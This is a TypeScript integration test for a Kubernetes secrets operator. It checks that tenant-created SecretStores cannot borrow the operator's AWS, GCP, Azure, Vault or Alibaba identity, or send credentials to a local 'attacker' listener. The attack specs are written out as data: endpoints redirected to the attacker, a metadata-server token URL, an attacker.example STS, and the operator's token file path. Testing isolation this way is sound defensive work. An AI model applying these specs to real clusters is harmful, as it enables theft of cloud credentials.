// Tenant isolation, attacked as a tenant who may only create objects in their own namespace would: with kubectl-
// style writes against the real apiserver, an operator running every real provider with the default policy, and an
// "attacker" listening on a loopback address the operator does not trust (127.0.0.2; only 127.0.0.1 and localhost
// are test beds). Each attack — a SecretStore acting as the operator's own AWS, Google, Azure, Vault or Alibaba
// identity, pointing an endpoint at the attacker, sending a file of the operator's pod, an inline VaultDynamicSecret
// doing the same, a credConfig aiming the subject token at the metadata server or a foreign STS — must end with the
// store or the ExternalSecret Ready=False naming the rule, and nothing reaching the attacker. A control test shows the
// attacker's recorder does see the same store when the operator's admin opts in, so silence means refused.
// And no stall: a tenant's stores aimed at a blackholed endpoint cannot hold the store workers that validate another
// namespace's store, nor can a store's retrySettings hold the ExternalSecret workers.
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { LocalCluster } from '../support/cluster.ts';
import { useCluster } from '../support/shared-cluster.ts';
import { adminKube, createObject, Plural, readSecret, startTestOperator, waitFor, type TestOperator } from '../support/operator.ts';
import { assertNoLeaks, SecretValues, stopTestOperator, TestNamespaces, waitReady, waitSecretData } from '../support/integration.ts';
import type { TestKube } from '../support/kube.ts';
import { createAwsProvider } from '../../src/providers/aws/provider.ts';
import { createGcpProvider } from '../../src/providers/gcp/provider.ts';
import { createAzureProvider } from '../../src/providers/azure/provider.ts';
import { createAlibabaProvider } from '../../src/providers/alibaba/provider.ts';
import { createVaultProvider } from '../../src/providers/vault/provider.ts';
import { createFakeProvider } from '../../src/providers/fake/provider.ts';
import { DEFAULT_TENANCY_POLICY, guardProvider } from '../../src/providers/kit/tenancy.ts';
import type { Provider, StoreContext } from '../../src/providers/provider.ts';
import { systemClock } from '../../src/util/clock.ts';

const ATTACKER_HOST = '127.0.0.2';

/** Records every connection and every byte sent to it; answers nothing useful. */
class Attacker {
  readonly received: string[] = [];
  connections = 0;
  #server: Server | undefined;
  port = 0;

  async start(): Promise<void> {
    this.#server = createServer((socket: Socket) => {
      this.connections++;
      socket.on('data', (chunk) => this.received.push(chunk.toString('latin1')));
      socket.on('error', () => {});
      // Enough of an HTTP answer that a client would go on to send what it holds.
      setTimeout(() => socket.end('HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer resource="https://management.azure.com"\r\nContent-Length: 0\r\n\r\n'), 50);
    });
    await new Promise<void>((resolve) => this.#server!.listen(0, ATTACKER_HOST, resolve));
    this.port = (this.#server!.address() as { port: number }).port;
  }

  url(scheme = 'http'): string {
    return `${scheme}://${ATTACKER_HOST}:${this.port}`;
  }

  async stop(): Promise<void> {
    await new Promise<void>((resolve) => this.#server?.close(() => resolve()) ?? resolve());
  }
}

let cluster: LocalCluster;
let kube: TestKube;
let op: TestOperator;
const attacker = new Attacker();
const namespaces = new TestNamespaces('tenant');
const secrets = new SecretValues();
const markerDir = mkdtempSync(join(tmpdir(), 'secret-relay-marker-'));
/** Stands where the operator's own token file would be: its content must never leave. */
const markerTokenPath = join(markerDir, 'token');
let markerToken: string;

/** Reads through a fake store named `flaky` fail as an unreachable backend would (a transient error). */
const flaky = { reads: 0 };
const providers = (): Provider[] => [
  createFakeProvider({
    onCall: (op, _ref, { ctx }) => {
      if (op !== 'getSecret' || ctx.storeName !== 'flaky') return;
      flaky.reads++;
      throw new Error('connect ECONNREFUSED: the backend is down');
    },
  }),
  createAwsProvider(),
  createGcpProvider(),
  createAzureProvider(),
  createAlibabaProvider(),
  createVaultProvider({ operatorServiceAccount: { namespace: 'secret-relay-system', name: 'secret-relay' } }),
] as Provider[];

before(async () => {
  cluster = await useCluster();
  kube = adminKube(cluster.kubeconfigPath);
  await attacker.start();
  markerToken = secrets.next('operator-token');
  writeFileSync(markerTokenPath, markerToken);
  // The default policy; the only trusted endpoint hosts are the test beds' (127.0.0.1, localhost), not the attacker's.
  op = await startTestOperator({ kubeconfigPath: cluster.kubeconfigPath, args: ['--leader-elect=false'], providers: providers() });
});

after(async () => {
  await stopTestOperator(op, 'tenant-isolation');
  await attacker.stop();
  await cluster?.stop();
});

/** A loopback server (a trusted host, so the stores pass the endpoint rule) that accepts connections and never answers. */
class Blackhole {
  connections = 0;
  readonly #sockets: Socket[] = [];
  #server: Server | undefined;
  url = '';

  async start(): Promise<void> {
    this.#server = createServer((socket: Socket) => {
      this.connections++;
      this.#sockets.push(socket);
      socket.on('error', () => {});
    });
    await new Promise<void>((resolve) => this.#server!.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.#server!.address() as { port: number }).port}`;
  }

  async stop(): Promise<void> {
    for (const socket of this.#sockets) socket.destroy();
    await new Promise<void>((resolve) => this.#server?.close(() => resolve()) ?? resolve());
  }
}

function store(name: string, provider: Record<string, unknown>, kind: 'SecretStore' | 'ClusterSecretStore' = 'SecretStore') {
  return { apiVersion: 'secret-relay.dev/v1alpha1', kind, metadata: { name }, spec: { provider } };
}

/** Each attack: a store spec, and the rule its Ready=False must name. */
function attacks(): [string, Record<string, unknown>, string, RegExp][] {
  const a = attacker.url();
  const tls = attacker.url('https');
  return [
    ['aws-ambient', { aws: { service: 'SecretsManager', region: 'eu-west-1', endpoint: a, role: 'arn:aws:iam::123456789012:role/admin', externalID: 'tenant-chosen' } }, 'OperatorIdentityNotAllowed', /spec\.provider\.aws without auth \(the default credential chain\)/],
    ['gcp-adc', { gcpsm: { projectID: 'victim-project', endpoints: { secretManager: tls } } }, 'OperatorIdentityNotAllowed', /Application Default Credentials/],
    ['gcp-sts', { gcpsm: { projectID: 'victim-project', endpoints: { sts: tls }, auth: { workloadIdentityFederation: { serviceAccountRef: { name: 'app' }, audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/k' } } } }, 'EndpointNotAllowed', /endpoints\.sts names host 127\.0\.0\.2/],
    ['azure-mi', { azurekv: { vaultUrl: 'https://victim.vault.azure.net', authType: 'ManagedIdentity', identityId: '00000000-0000-0000-0000-000000000001', customCloudConfig: { activeDirectoryEndpoint: tls } } }, 'OperatorIdentityNotAllowed', /authType ManagedIdentity/],
    ['azure-authority', { azurekv: { vaultUrl: 'https://mine.vault.azure.net', authType: 'WorkloadIdentity', serviceAccountRef: { name: 'app' }, tenantId: 't', customCloudConfig: { activeDirectoryEndpoint: tls } } }, 'EndpointNotAllowed', /activeDirectoryEndpoint names host 127\.0\.0\.2/],
    ['vault-own-token', { vault: { server: a, auth: { kubernetes: { role: 'admin' } } } }, 'OperatorIdentityNotAllowed', /auth\.kubernetes without serviceAccountRef or secretRef \(the operator's own ServiceAccount\)/],
    ['alibaba-file', { alibaba: { regionID: 'cn-hangzhou', endpoint: a, auth: { rrsa: { oidcProviderArn: 'acs:ram::1:oidc-provider/ack', roleArn: 'acs:ram::1:role/admin', oidcTokenFilePath: markerTokenPath, stsEndpoint: a } } } }, 'OperatorIdentityNotAllowed', /OperatorFileNotAllowed: spec\.provider\.alibaba\.auth\.rrsa\.oidcTokenFilePath names a file of the operator's pod/],
    ['alibaba-sts', { alibaba: { regionID: 'cn-hangzhou', auth: { rrsa: { oidcProviderArn: 'acs:ram::1:oidc-provider/ack', roleArn: 'acs:ram::1:role/r', serviceAccountRef: { name: 'app' }, stsEndpoint: a } } } }, 'EndpointNotAllowed', /rrsa\.stsEndpoint names host 127\.0\.0\.2/],
  ];
}

test('every way a SecretStore could act as the operator or aim credentials at a host of its choosing is refused, naming the rule; nothing reaches the attacker', async () => {
  const ns = await namespaces.create(kube);
  await kube.core.createNamespacedServiceAccount({ namespace: ns, body: { metadata: { name: 'app' } } });
  for (const [name, provider] of attacks()) await createObject(kube, Plural.SecretStore, store(name, provider), ns);
  for (const [name, , reason, message] of attacks()) {
    const ready = await waitReady(kube, { plural: Plural.SecretStore, namespace: ns, name, status: 'False', reason });
    assert.match(ready.message, message, name);
    assert.match(ready.message, new RegExp(`^SecretStore ${ns}/${name}: ${reason}: `), name);
  }
  // An ExternalSecret of a refused store waits, saying why.
  await createObject(kube, Plural.ExternalSecret, { apiVersion: 'secret-relay.dev/v1alpha1', kind: 'ExternalSecret', metadata: { name: 'steal' }, spec: { secretStoreRef: { name: 'vault-own-token' }, data: [{ secretKey: 'x', remoteRef: { key: 'secret/admin' } }] } }, ns);
  const es = await waitReady(kube, { namespace: ns, name: 'steal', status: 'False' });
  assert.match(es.message, /vault-own-token/);
  assert.equal(attacker.connections, 0, `the attacker received: ${attacker.received.join(' | ').slice(0, 500)}`);
});

test('an inline VaultDynamicSecret cannot log in as the operator either; the ExternalSecret names the rule', async () => {
  const ns = await namespaces.create(kube);
  await createObject(kube, Plural.SecretStore, store('fake', { fake: { data: [{ key: 'k', value: 'v' }] } }), ns);
  await createObject(kube, Plural.VaultDynamicSecret, {
    apiVersion: 'secret-relay.dev/v1alpha1',
    kind: 'VaultDynamicSecret',
    metadata: { name: 'mint' },
    spec: { provider: { server: attacker.url(), auth: { kubernetes: { role: 'admin' } } }, path: 'auth/token/create', method: 'POST' },
  }, ns);
  await createObject(kube, Plural.ExternalSecret, {
    apiVersion: 'secret-relay.dev/v1alpha1',
    kind: 'ExternalSecret',
    metadata: { name: 'minted' },
    spec: { secretStoreRef: { name: 'fake' }, refreshInterval: '1h', dataFrom: [{ sourceRef: { generatorRef: { apiVersion: 'secret-relay.dev/v1alpha1', kind: 'VaultDynamicSecret', name: 'mint' } } }] },
  }, ns);
  const ready = await waitReady(kube, { namespace: ns, name: 'minted', status: 'False', message: /OperatorIdentityNotAllowed/ });
  assert.match(ready.message, /auth\.kubernetes without serviceAccountRef or secretRef/);
  assert.equal(attacker.connections, 0);
});

test('credConfig: a subject token from the metadata server, or sent to a foreign STS, is refused before any request', async () => {
  const ns = await namespaces.create(kube);
  const configs: [string, Record<string, unknown>, string | undefined, RegExp][] = [
    ['metadata', { credential_source: { url: 'http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/identity?audience=x', headers: { 'Metadata-Flavor': 'Google' } } }, 'http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/identity?audience=x', /may not set Metadata-Flavor/],
    ['foreign-sts', { token_url: 'https://sts.attacker.example/v1/token', credential_source: { url: `${attacker.url()}/token` } }, `${attacker.url()}/token`, /token_url https:\/\/sts\.attacker\.example\/v1\/token must be Google STS/],
    ['no-endpoint', { credential_source: { url: `${attacker.url()}/token` } }, undefined, /must also be set as workloadIdentityFederation\.externalTokenEndpoint/],
  ];
  for (const [name, extra, endpoint, message] of configs) {
    const json = { type: 'external_account', audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/k', subject_token_type: 'urn:ietf:params:oauth:token-type:jwt', token_url: 'https://sts.googleapis.com/v1/token', ...extra };
    await kube.core.createNamespacedConfigMap({ namespace: ns, body: { metadata: { name }, data: { 'cred.json': JSON.stringify(json) } } });
    await createObject(kube, Plural.SecretStore, store(name, { gcpsm: { projectID: 'tenant-project', auth: { workloadIdentityFederation: { credConfig: { name, key: 'cred.json' }, ...(endpoint ? { externalTokenEndpoint: endpoint } : {}) } } } }), ns);
  }
  for (const [name, , , message] of configs) {
    const ready = await waitReady(kube, { plural: Plural.SecretStore, namespace: ns, name, status: 'False', message });
    assert.match(ready.message, /key cred\.json of ConfigMap/);
  }
  assert.equal(attacker.connections, 0);
});

test('control: with the admin opting in (trusted host, operator identity for all), the same store does reach the host — the recorder would have seen an attack', async () => {
  const before = attacker.connections;
  const permissive = { ...DEFAULT_TENANCY_POLICY, operatorIdentity: 'all' as const, trustedEndpointHosts: [ATTACKER_HOST] };
  const vault = guardProvider(createVaultProvider({ operatorServiceAccount: { namespace: 'secret-relay-system', name: 'secret-relay' } }) as Provider, permissive);
  const ctx = { storeKind: 'SecretStore', storeName: 's', storeNamespace: 'default', namespace: 'default', clock: systemClock, kube: { createServiceAccountToken: async () => ({ token: secrets.next('minted'), expiresAt: Date.now() + 600_000 }) } } as unknown as StoreContext;
  await assert.rejects(vault.newClient({ server: attacker.url(), auth: { kubernetes: { role: 'admin' } } }, ctx));
  assert.ok(attacker.connections > before, 'the permissive store connected to the host');
  assert.ok(attacker.received.join('').includes('/v1/auth/kubernetes/login'), 'and sent its login there');
});

test('no stall: 24 stores of three tenants aimed at a blackholed endpoint do not keep another namespace’s store from being validated; they say what happened', async () => {
  const blackhole = new Blackhole();
  await blackhole.start();
  const stalled = new TestNamespaces('stall');
  try {
    const deadStores: [string, string][] = [];
    for (let t = 0; t < 3; t++) {
      const ns = await stalled.create(kube);
      await kube.core.createNamespacedSecret({ namespace: ns, body: { metadata: { name: 'vault-token' }, stringData: { token: secrets.next('vault-token') } } });
      for (let i = 0; i < 8; i++) {
        await createObject(kube, Plural.SecretStore, store(`dead-${i}`, { vault: { server: blackhole.url, path: 'secret', auth: { tokenSecretRef: { name: 'vault-token', key: 'token' } } } }), ns);
        deadStores.push([ns, `dead-${i}`]);
      }
    }
    // The dead validations are under way (more of them than the store controller has workers) ...
    await waitFor('the dead stores’ validations reach the blackhole', () => blackhole.connections >= 8, 60_000);
    // ... when another tenant's healthy store arrives.
    const other = await namespaces.create(kube);
    const created = Date.now();
    await createObject(kube, Plural.SecretStore, store('healthy', { fake: { data: [{ key: 'k', value: 'v' }] } }), other);
    await waitReady(kube, { plural: Plural.SecretStore, namespace: other, name: 'healthy', status: 'True' }, 30_000);
    console.log(`# another namespace's store Ready ${((Date.now() - created) / 1000).toFixed(1)} s after it was created, beside ${deadStores.length} stores whose endpoint never answers (${blackhole.connections} connections so far)`);
    // Each dead store says so, naming the endpoint, and is looked at again later (recheck backoff).
    const port = new URL(blackhole.url).port;
    for (const [ns, name] of deadStores) {
      const ready = await waitReady(kube, { plural: Plural.SecretStore, namespace: ns, name, status: 'False', reason: 'ValidationFailed' }, 180_000);
      assert.match(ready.message, new RegExp(`127\\.0\\.0\\.1:${port}`), `${ns}/${name} names the endpoint: ${ready.message}`);
      assert.match(ready.message, /no answer|did not answer/, `${ns}/${name} says it had no answer: ${ready.message}`);
    }
    console.log(`# all ${deadStores.length} dead stores Ready=False naming the endpoint ${((Date.now() - created) / 1000).toFixed(1)} s after the healthy store was created`);
  } finally {
    // Left behind, their stores would keep the next suite's operator busy.
    await stalled.deleteAll(kube);
    await blackhole.stop();
  }
});

test('no stall: a store with retrySettings maxRetries 10 / retryInterval 30s over a failing backend does not delay another namespace’s ExternalSecret', async () => {
  const tenant = await namespaces.create(kube);
  await createObject(kube, Plural.SecretStore, { ...store('flaky', { fake: { data: [{ key: 'db', value: secrets.next('flaky') }] } }), spec: { provider: { fake: { data: [{ key: 'db', value: secrets.next('flaky') }] } }, retrySettings: { maxRetries: 10, retryInterval: '30s' } } }, tenant);
  await waitReady(kube, { plural: Plural.SecretStore, namespace: tenant, name: 'flaky', status: 'True' });
  const before = flaky.reads;
  // More ExternalSecrets than the operator has workers (4): were the retries waited for on the workers, all would be taken.
  for (let i = 0; i < 6; i++) {
    await createObject(kube, Plural.ExternalSecret, { apiVersion: 'secret-relay.dev/v1alpha1', kind: 'ExternalSecret', metadata: { name: `app-${i}` }, spec: { secretStoreRef: { name: 'flaky' }, refreshInterval: '1h', data: [{ secretKey: 'password', remoteRef: { key: 'db' } }] } }, tenant);
  }
  await waitFor('every flaky ExternalSecret has failed a first read', () => flaky.reads - before >= 6, 30_000);
  const other = await namespaces.create(kube);
  const value = secrets.next('other');
  await createObject(kube, Plural.SecretStore, store('healthy', { fake: { data: [{ key: 'db', value }] } }), other);
  const created = Date.now();
  await createObject(kube, Plural.ExternalSecret, { apiVersion: 'secret-relay.dev/v1alpha1', kind: 'ExternalSecret', metadata: { name: 'app' }, spec: { secretStoreRef: { name: 'healthy' }, refreshInterval: '1h', data: [{ secretKey: 'password', remoteRef: { key: 'db' } }] } }, other);
  await waitSecretData(kube, other, 'app', { password: value }, 20_000);
  console.log(`# another namespace's Secret written ${((Date.now() - created) / 1000).toFixed(1)} s after its ExternalSecret was created, beside 6 ExternalSecrets retrying 10 × 30 s (${flaky.reads - before} failed reads so far)`);
  // The flaky ones are retried at their retryInterval — requeues, not waits — and no Secret of theirs is written.
  // (Reads of one key at one time share one provider call, so the audit log counts each ExternalSecret's attempts.)
  const attempts = () => {
    const counts = new Map<string, number>();
    for (const line of op.audit.lines) {
      const record = JSON.parse(line) as { action?: string; result?: string; externalSecret?: { namespace: string; name: string } };
      if (record.action === 'provider.read' && record.result === 'error' && record.externalSecret?.namespace === tenant) {
        counts.set(record.externalSecret.name, (counts.get(record.externalSecret.name) ?? 0) + 1);
      }
    }
    return counts;
  };
  const retriedFrom = Date.now();
  await waitFor('every flaky ExternalSecret is read again after its retryInterval', () => [...attempts().values()].filter((n) => n >= 2).length === 6, 90_000);
  console.log(`# all six flaky ExternalSecrets attempted a second read ${((Date.now() - retriedFrom) / 1000).toFixed(1)} s later (retryInterval 30s)`);
  assert.equal(await readSecret(kube, tenant, 'app-0'), undefined, 'nothing written from a failed read');
});

test('no token or value of the operator appears in any log line, audit record, Event or status', async () => {
  for (const line of attacker.received) assert.ok(!line.includes(markerToken), 'the marker token never reached the attacker');
  await assertNoLeaks({ logs: [op.logs], audit: [op.audit], kube, namespaces: namespaces.names, values: secrets, atLeast: 1 });
});
